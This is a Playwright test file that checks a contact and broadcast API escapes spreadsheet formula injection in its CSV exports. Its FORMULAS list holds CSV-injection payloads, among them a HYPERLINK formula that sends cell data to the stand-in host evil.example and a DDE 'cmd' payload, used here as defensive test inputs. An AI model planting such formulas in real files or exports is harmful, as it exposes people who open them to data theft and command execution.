import { expect, test, type APIRequestContext } from '@playwright/test';
import { newAccount, uniquePhone, type TestAccount } from './factories';

// CSV downloads never hand a spreadsheet a formula: a cell starting with =, +, -, @, a tab or a
// carriage return is written with a leading single quote. Numbers, E.164 phone numbers among
// them, are written as they are.

let acme: TestAccount;
test.beforeAll(async ({ request }) => {
  acme = await newAccount(request);
});

/** The cells of a CSV answer (BOM dropped), with RFC 4180 quoting undone. */
async function cells(res: Awaited<ReturnType<APIRequestContext['get']>>): Promise<string[][]> {
  expect(res.status()).toBe(200);
  expect(res.headers()['content-type']).toContain('text/csv');
  const text = (await res.text()).replace(/^\ufeff/, '');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += c;
  }
  return rows;
}

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\'/C calc\'!A0', '-2+3+cmd|x', '@SUM(A1:A9)', '\t=1+2', '\r=1+2'];

test('the rejected rows of an import: formula cells, header names included, come back as text', async ({ request }) => {
  const headers = { ...acme.admin.headers, 'Content-Type': 'text/csv' };
  // Every row is rejected (an invalid phone number); the columns carry the formulas.
  const lines = ['phone,first_name,=evil_column', ...FORMULAS.map((f, i) => `not-a-phone-${i},"${f.replace(/"/g, '""')}",x`),
    `=1+2,Ana,"${FORMULAS[3]}"`];
  const res = await request.post('/api/contact/upload', { headers, data: lines.join('\r\n') + '\r\n' });
  expect(res.status(), await res.text()).toBe(200);
  const { upload_group_id: id } = await res.json();
  await expect.poll(async () => (await (await request.get(`/api/contact/upload/${id}`, { headers: acme.admin.headers })).json()).status,
    { timeout: 45_000 }).toBe('COMPLETED');

  const rows = await cells(await request.get(`/api/contact/upload/${id}/rejected`, { headers: acme.admin.headers }));
  expect(rows[0]).toEqual(['line', 'reason', 'phone', 'first_name', "'=evil_column"]);
  expect(rows.slice(1, FORMULAS.length + 1).map((r) => r[3])).toEqual(FORMULAS.map((f) => `'${f}`));
  expect(rows[FORMULAS.length + 1].slice(2)).toEqual(["'=1+2", 'Ana', `'${FORMULAS[3]}`]);
  for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
});

test('the recipients export of a broadcast: formula variables come back as text, phone numbers as they are', async ({ request }) => {
  const channels = await (await request.get('/api/channels', { headers: acme.admin.headers })).json();
  const sandbox = channels.results.find((c: { is_sandbox: boolean }) => c.is_sandbox);
  const templates = await (await request.get(`/api/channels/chat/template?channel=${sandbox.id}&page_size=50`, { headers: acme.admin.headers })).json();
  const welcome = templates.results.find((t: { name: string }) => t.name === 'welcome');
  const phones = FORMULAS.map(() => uniquePhone());
  const created = await request.post('/api/broadcast', {
    headers: acme.admin.headers,
    data: {
      name: 'Formulas', chat_template: welcome.id, start_on: new Date(Date.now() + 3600_000).toISOString(),
      recipients: FORMULAS.map((f, i) => ({ phone: phones[i], data: [f, '-12.5'] })),
    },
  });
  expect(created.status(), await created.text()).toBe(201);
  const { id } = await created.json();

  const rows = await cells(await request.get(`/api/broadcast/${id}/recipients/export`, { headers: acme.admin.headers }));
  expect(rows[0].slice(-2)).toEqual(['variable_1', 'variable_2']);
  const body = rows.slice(1);
  expect(body).toHaveLength(FORMULAS.length);
  expect(body.map((r) => r.at(-2)).sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
  for (const row of body) {
    expect(row.at(-1)).toBe('-12.5');
    expect(phones).toContain(row[1]); // canonical_phone: "+52…" as it is
  }
});
